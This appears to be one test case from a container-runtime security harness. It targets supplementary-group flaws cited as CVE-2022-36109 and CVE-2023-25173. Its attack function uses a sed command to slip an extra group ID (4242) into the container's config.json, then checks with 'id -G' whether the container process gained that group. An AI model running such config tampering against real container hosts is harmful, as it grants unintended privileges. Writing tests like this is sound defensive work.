"""A low-level runtime that leaves one group of its own to the container."""

from bypass import attested

SOURCE = "CVE-2022-36109, CVE-2023-25173"
WAY = "race"
STOPPED = attested("group")


def attack(t):
    t.before_low("sed -E -i 's/\"additionalGids\": ?\\[/&4242,/; s/,\\]/]/' %s/config.json" % t.bundle)
    t.spec["process"]["user"] = {"uid": 1000, "gid": 1000, "additionalGids": [1000]}
    return "4242" in t.run("id -G") and "group 4242"
